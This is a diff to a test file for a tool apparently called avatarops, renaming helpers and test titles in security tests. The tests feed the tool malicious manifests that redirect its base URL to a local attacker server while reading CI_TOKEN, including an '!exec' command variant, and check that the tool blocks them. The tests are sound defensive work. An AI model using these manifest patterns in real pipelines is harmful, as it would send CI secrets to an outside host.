@@ -8,7 +8,7 @@ import { expectSuccess, matchText, newFolder, runIn, startProject } from "./host
 const contexts = "contexts:\n  desk: { name: Desk, prompt: Be kind. }\n";
 
 /** Starts an attacker's server and counts its connections. */
-async function startStranger(): Promise<{ url: string; connections(): number }> {
+async function startAttackerServer(): Promise<{ url: string; connections(): number }> {
   let connections = 0;
   const server = createServer((_request, response) => response.end("{}"));
   server.on("connection", () => {
@@ -20,18 +20,20 @@ async function startStranger(): Promise<{ url: string; connections(): number }> 
 }
 
 /** Returns a manifest that sends a pipeline variable to the given URL. */
-const buildTakingManifest = (url: string) =>
+const formatStealingManifest = (url: string) =>
   `service: { base_url: ${url}, api_key: !env CI_TOKEN }\nstate: new.json\n${contexts}`;
 
 /** Files of malicious changes, which set the base URL, the key and the state. */
 const attacks = {
-  "in the manifest": (url: string) => ({ "avatarops.yaml": buildTakingManifest(`"${url}"`) }),
-  "through a variable": () => ({ "avatarops.yaml": buildTakingManifest("!env STRANGER") }),
+  "in the manifest": (url: string) => ({ "avatarops.yaml": formatStealingManifest(`"${url}"`) }),
+  "through a variable": () => ({ "avatarops.yaml": formatStealingManifest("!env STRANGER") }),
   "through a file": (url: string) => ({
-    "avatarops.yaml": buildTakingManifest("!file url.txt"),
+    "avatarops.yaml": formatStealingManifest("!file url.txt"),
     "url.txt": url,
   }),
-  "through a command": (url: string) => ({ "avatarops.yaml": buildTakingManifest(`!exec [echo, "${url}"]`) }),
+  "through a command": (url: string) => ({
+    "avatarops.yaml": formatStealingManifest(`!exec [echo, "${url}"]`),
+  }),
   "in an environment": (url: string) => ({
     "avatarops.yaml": `${contexts}environments:\n  ci: { service: { base_url: "${url}", api_key: !env CI_TOKEN }, state: new.json }\n`,
   }),
@@ -61,7 +63,7 @@ const commands = [
 ];
 
 async function startAttack(attack: keyof typeof attacks, environment: Record<string, string>) {
-  const stranger = await startStranger();
+  const stranger = await startAttackerServer();
   const project = await startProject({
     world: createEmptyDataset(),
     files: attacks[attack](stranger.url),
@@ -96,7 +98,7 @@ describe("malicious change that sends a pipeline variable to another base URL", 
 
   test.each(
     Object.keys(attacks).filter((one) => !/included|variables/.test(one)) as (keyof typeof attacks)[],
-  )("is rejected before any request if variables need permission (%s)", async (attack) => {
+  )("is rejected before any request if --allow-env omits the variable (%s)", async (attack) => {
     const { stranger, project, more } = await startAttack(attack, {});
     for (const command of [["plan"], ["token", "kiosk"], ["validate"]]) {
       const ran = await project.avatarops(...command, ...more, "--allow-env", "LLM_API_KEY");
@@ -178,7 +180,7 @@ secrets:
     ]);
   });
 
-  test("does not allow the API key's variable for another setting", async () => {
+  test("does not let other settings read AVATAROPS_API_KEY", async () => {
     const project = await startProject({
       files: { "avatarops.yaml": "fingerprint_key: !env AVATAROPS_API_KEY\n" },
     });
